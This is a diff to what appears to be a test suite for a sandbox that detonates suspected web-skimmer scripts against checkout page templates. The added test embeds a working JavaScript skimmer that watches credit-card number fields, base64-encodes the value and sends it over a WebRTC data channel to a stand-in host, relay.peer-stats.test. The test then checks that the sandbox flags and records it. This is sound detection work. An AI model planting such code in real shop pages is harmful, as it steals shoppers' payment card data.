@@ -315,6 +315,27 @@ async def test_a_file_that_replaces_fetch_is_tried_where_orders_go_through_fetch
     assert result.verdict is Verdict.MALICIOUS, [(p.template, p.verdict) for p in result.pages]
 
 
+async def test_a_data_channel_is_told_it_opened_and_what_it_sends_is_recorded(
+        detonator: Detonator) -> None:
+    """A kit queues the card for a WebRTC data channel that never connects here (there is no
+    peer): told it opened, it sends, and the message is a send to its connection's server."""
+    code = """var pc = new RTCPeerConnection({
+      iceServers: [{urls: 'stun:relay.peer-stats.test:3478'}]});
+    var ch = pc.createDataChannel('x'), open = false, queue = [];
+    ch.onopen = function () { open = true; while (queue.length) ch.send(queue.shift()); };
+    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
+    document.addEventListener('change', function (e) {
+      if (!/cc_number/.test(e.target.name || '') || !e.target.value) return;
+      var m = btoa(e.target.value);
+      if (open) ch.send(m); else queue.push(m);
+    }, true);"""
+    result = await detonator.detonate("rtc.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    (found,) = exfiltration(result)
+    assert found.evidence["host"] == "relay.peer-stats.test"
+    assert found.evidence["channel"] == "webrtc"
+
+
 async def test_a_kit_for_desktop_shoppers_from_the_cart_runs(detonator: Detonator) -> None:
     """Kits skip Linux (where scanners run) and visitors who did not come from the cart: the
     shopper is on Windows everywhere it says so, and arrives from the platform's cart page. A
